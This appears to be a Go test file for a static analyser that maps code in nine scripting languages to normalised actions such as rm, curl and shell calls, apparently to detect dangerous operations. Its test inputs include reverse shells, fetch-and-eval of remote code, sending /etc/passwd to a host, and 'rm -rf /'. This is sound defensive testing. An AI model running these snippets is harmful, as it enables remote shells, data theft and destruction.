package lang

import "testing"

func TestJavaScript(t *testing.T) {
	runExamples(t, "javascript", []example{
		{"rmSync", `require('fs').rmSync('a', {recursive: true, force: true}); require("node:fs").rmSync('b')`, []string{"rm -r -f a", "rm b"}},
		{"an option that is off", `fs.rmSync('a', {recursive: false})`, []string{"rm a"}},
		{"rmdirSync", `const fs = require('fs'); fs.rmdirSync(d, { recursive: true }); fs.rmdirSync('e')`, []string{"rm -r <d>", "rmdir e"}},
		{"promises", `await fs.promises.rm('a', {recursive: true}); const fsp = require('fs/promises'); await fsp.unlink('b')`, []string{"rm -r a", "rm b"}},
		{"imports", "import fs, {rmSync as r} from 'fs'\nimport * as cp from 'node:child_process'\nr('a'); fs.unlinkSync('b'); cp.execSync('id')", []string{"rm a", "rm b", "shell| id"}},
		{"imported later", `import('fs').then(f => f.unlinkSync('a')); (await import("fs")).unlinkSync("b")`, []string{"rm a", "rm b"}},
		{"taken apart", `const {execSync: run, spawn} = require('child_process'); run(` + "`rm -rf ${dir}/x`" + `); spawn('rm', ['-r', x])`, []string{"shell| rm -rf <dir>/x", "rm -r <x>"}},
		{"home", `const p = require('path'), os = require('os'); fs.unlinkSync(path.join(os.homedir(), 'a')); fs.unlinkSync(process.env.HOME + '/b')`, []string{"rm <home>/a", "rm <home>/b"}},
		{"loops", `['a', 'b'].forEach(d => fs.rmSync(d)); for (const f of ['c']) { fs.unlinkSync(f) }`, []string{"rm a", "rm b", "rm c"}},
		{"eval", `eval(atob("YWxlcnQoMSk=")); new Function(body)(); eval(Buffer.from("31", "hex").toString())`, []string{"javascript| alert(1)", "javascript| <body>", "javascript| 1"}},
		{"code from the network", `fetch("http://h/x").then(r => r.text()).then(t => eval(t))`, []string{"curl http://h/x", "run:javascript: javascript <net>"}},
		{"handed on by name", `fetch(u).then(r => r.text()).then(eval)`, []string{"curl <u>", "run:javascript: javascript <net>"}},
		{"requests", `fetch("https://h/1", {method: "DELETE"}); axios.post("http://h", fs.readFileSync("/etc/passwd"))`, []string{"curl -X DELETE https://h/1", "curl -d @/etc/passwd http://h", "cat /etc/passwd"}},
		{"promisify", `const run = require("util").promisify(require("child_process").exec); await run("id")`, []string{"shell| id"}},
		{"an index", `algolia.deleteIndex("prod")`, []string{"destroy: algolia.deleteIndex prod"}},
		{"deno", `Deno.remove("a", {recursive: true}); new Deno.Command("rm", {args: ["-r", "b"]}).output()`, []string{"rm -r a", "rm -r b"}},
		{"bun", "await Bun.$`rm -rf ${x}`; Bun.spawn(['ls', '-l'])", []string{"shell| rm -rf <x>", "ls -l"}},
		{"reverse shell", `const s = require("child_process").spawn("/bin/sh"); const c = require("net").connect(99, "192.0.2.1", () => { c.pipe(s.stdin) })`, []string{"/bin/sh", "listen: shell over a connection 192.0.2.1"}},
		{"strings, patterns and comments are data", "console.log(\"fs.rmSync('/')\", /eval(x)/.test(y)); // eval('x')\n/* execSync('id') */", nil},
		{"methods of others", `list.exec("x"); /a/.exec(y); db.rm("z"); process.kill(pid, 0)`, nil},
		{"quotient is no pattern", `a = b / 2; eval("c"); d = e / f`, []string{"javascript| c"}},
	})
}

func TestRuby(t *testing.T) {
	runExamples(t, "ruby", []example{
		{"FileUtils", `require "fileutils"; FileUtils.rm_rf("a"); FileUtils.rm_r %w[b c], secure: true; FileUtils.rm "d" if x`, []string{"rm -r -f a", "rm -r b c", "rm d"}},
		{"File and Dir", `File.delete("a", b); Dir.rmdir 'c'; File.write("d", "x"); File.open("e", "a") { |f| f << 1 }`, []string{"rm a <b>", "rmdir c", "tee d", "tee -a e"}},
		{"commands", "system(\"rm\", \"-rf\", Dir.home); system \"ls | wc\" or abort; `id #{x}`; %x(pwd); exec 'w'; IO.popen(['a', 'b'])", []string{"rm -rf <home>", "shell| ls | wc", "shell| id <x>", "shell| pwd", "shell| w", "a b"}},
		{"blocks", "['a', 'b'].each { |d| FileUtils.rm_rf(d) }\n%w[c].each do |f|\n  File.unlink f\nend", []string{"rm -r -f a", "rm -r -f b", "rm c"}},
		{"home", `FileUtils.rm_rf(File.join(ENV["HOME"], "x")); File.delete(File.expand_path("~/y"))`, []string{"rm -r -f <home>/x", "rm <home>/y"}},
		{"a pipe as a file", `open("|id").read; open("a")`, []string{"shell| id", "cat a"}},
		{"eval", `eval Base64.decode64("cHV0cyAx"); eval URI.open("http://h").read`, []string{"ruby| puts 1", "run:ruby: ruby <net>", "curl http://h"}},
		{"a pattern of names", `Dir["t/*"].each { |f| File.delete f }`, []string{"rm t/*(glob)"}},
		{"send", `Kernel.send(:system, "id")`, []string{"shell| id"}},
		{"reverse shell", `s = TCPSocket.new("192.0.2.1", 99); while c = s.gets; IO.popen(c, "r") { |io| s.print io.read }; end`, []string{"run: shell <net>"}},
		{"data", "puts 'system(\"x\")' # system('y')\nx = <<~EOS\n  system(\"no\")\nEOS\ny = /`ls`/", nil},
		{"definitions and methods of others", "def system(x)\nend\ndb.exec('SELECT 1'); config.inspect; p x", nil},
	})
}

func TestPerl(t *testing.T) {
	runExamples(t, "perl", []example{
		{"unlink", `unlink "a", "b" or die "x"; unlink glob("/t/*"); unlink($f)`, []string{"rm a b", "rm /t/*(glob)", "rm <$f>"}},
		{"trees", `use File::Path qw(rmtree); rmtree("a"); File::Path::remove_tree('b')`, []string{"rm -r a", "rm -r b"}},
		{"commands", "my $d = $ENV{HOME}; system(\"rm -rf $d/x\"); system 'rm', '-r', 'y'; `id`; qx{pwd}; exec 'w'", []string{"shell| rm -rf <home>/x", "rm -r y", "shell| id", "shell| pwd", "shell| w"}},
		{"open", `open(F, ">a"); open(my $g, '>>', "b"); open(P, "| mail c"); open(Q, "ls |"); open(R, '<', "/etc/hosts")`, []string{"tee a", "tee -a b", "shell|  mail c", "shell| ls ", "cat /etc/hosts"}},
		{"eval", `eval "print 1"; eval { f() }; s/x/system("id")/e`, []string{"perl| print 1", "shell| id"}},
		{"loop", `foreach my $f ("a", "b") { unlink $f }`, []string{"rm a", "rm b"}},
		{"the topic", `find(sub { unlink if /x/ }, "/")`, []string{"rm <$_>"}},
		{"mode", `chmod 0777, "a"`, []string{"chmod 777 a"}},
		{"reverse shell", `use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, $a); open(STDIN, ">&S"); exec("/bin/sh -i")`, []string{"listen: shell over a connection <$a>", "shell| /bin/sh -i"}},
		{"data", "print 'system(1)'; s/system(\"x\")/y/g; print if m/unlink/; # unlink 'z'\n=pod\nunlink 'y'\n=cut\n", nil},
	})
}

func TestPHP(t *testing.T) {
	runExamples(t, "php", []example{
		{"files", `unlink("a"); $d = getenv("HOME"); rmdir("$d/b"); file_put_contents("{$d}/c", "unlink('x')"); fopen("e", "w");`, []string{"rm a", "rmdir <home>/b", "tee <home>/c", "tee e"}},
		{"commands", "exec('rm -rf ' . $d); echo shell_exec('id'); `ls $d`; @system('w');", []string{"shell| rm -rf <$d>", "shell| id", "shell| ls <$d>", "shell| w"}},
		{"eval", `eval(base64_decode("ZWNobyAxOw==")); eval(file_get_contents("http://h/x"));`, []string{"php| echo 1;", "run:php: php <net>", "curl http://h/x"}},
		{"called by name", `call_user_func("system", "id"); array_map('unlink', glob("*.log"));`, []string{"shell| id", "rm *.log(glob)"}},
		{"loops", `foreach (["a", "b"] as $k => $v) { unlink($v); }`, []string{"rm a", "rm b"}},
		{"reverse shell", `$s = fsockopen("192.0.2.1", 99); proc_open("sh -i", array(0 => $s, 1 => $s), $p);`, []string{"listen: shell over a connection 192.0.2.1", "shell| sh -i"}},
		{"only what stands in tags", "unlink('a') <?php unlink('b'); ?> unlink('c') <?= `id` ?>", []string{"rm b", "shell| id"}},
		{"data", "echo \"unlink('x')\"; // unlink('y')\n# system('z')\n$o->unlink('w');", nil},
	})
}

func TestR(t *testing.T) {
	runExamples(t, "r", []example{
		{"files", `unlink("a", recursive = TRUE); unlink('b', recursive=FALSE); fs::dir_delete("d"); file.remove("c")`, []string{"rm -r -f a", "rm -f b", "rm -r d", "rm c"}},
		{"commands", `x <- system("rm -rf /srv", intern = TRUE); system2("rm", "-rf /")`, []string{"shell| rm -rf /srv", "shell| rm -rf /"}},
		{"parsed", `eval(parse(text = "unlink('a')"))`, []string{"r| unlink('a')"}},
		{"data", `rm(x); print("unlink('a')") # system("y")`, nil},
	})
}

func TestJulia(t *testing.T) {
	runExamples(t, "julia", []example{
		{"files", `rm("a", recursive=true); rm("b"; force=true)`, []string{"rm -r a", "rm -f b"}},
		{"commands", "run(`rm -rf /srv`)", []string{"shell| rm -rf /srv"}},
		{"data", `println("rm -rf /") # rm("x")`, nil},
	})
}

func TestElixir(t *testing.T) {
	runExamples(t, "elixir", []example{
		{"files", `if a != b, do: File.rm_rf!("/srv/a"); File.rm("b")`, []string{"rm -r -f /srv/a", "rm b"}},
		{"without parentheses", `File.rm_rf! "a"; File.rm_rf "b"`, []string{"rm -r -f a", "rm -r -f b"}},
		{"commands", `System.cmd("rm", ["-rf", "/srv"]); System.shell("rm -rf b"); :os.cmd('rm -rf c')`, []string{"rm -rf /srv", "shell| rm -rf b", "shell| rm -rf c"}},
		{"joined", `File.rm_rf(Path.join(System.user_home!(), "x")); File.rm("#{d}/y")`, []string{"rm -r -f <home>/x", "rm <d>/y"}},
		{"eval", `Code.eval_string("File.rm(1)")`, []string{"elixir| File.rm(1)"}},
		{"data", `IO.puts("File.rm_rf('/')") # File.rm("x")`, nil},
	})
}

func TestOCaml(t *testing.T) {
	runExamples(t, "ocaml", []example{
		{"commands", `let _ = Sys.command "rm -rf /srv";; ignore (Unix.system ("rm -rf " ^ d))`, []string{"shell| rm -rf /srv", "shell| rm -rf <d>"}},
		{"files", `Sys.remove "a"; Unix.unlink("b")`, []string{"rm a", "rm b"}},
		{"data", `print_string "Sys.command" (* Sys.remove "x" *)`, nil},
	})
}

func TestLua(t *testing.T) {
	runExamples(t, "lua", []example{
		{"os and io", `os.execute("rm -rf /srv") os.remove "a" local f = io.open("b", "w")`, []string{"shell| rm -rf /srv", "rm a", "tee b"}},
		{"joined", `local h = os.getenv("HOME") os.execute('rm ' .. h .. '/x') io.popen(c)`, []string{"shell| rm <home>/x", "shell| <c>"}},
		{"load", `load("return 1")() for _, d in ipairs({"a"}) do os.remove(d) end`, []string{"lua| return 1", "rm a"}},
		{"data", "print[[os.remove('x')]] -- os.execute('y')\n--[[ os.remove('z') ]]", nil},
	})
}
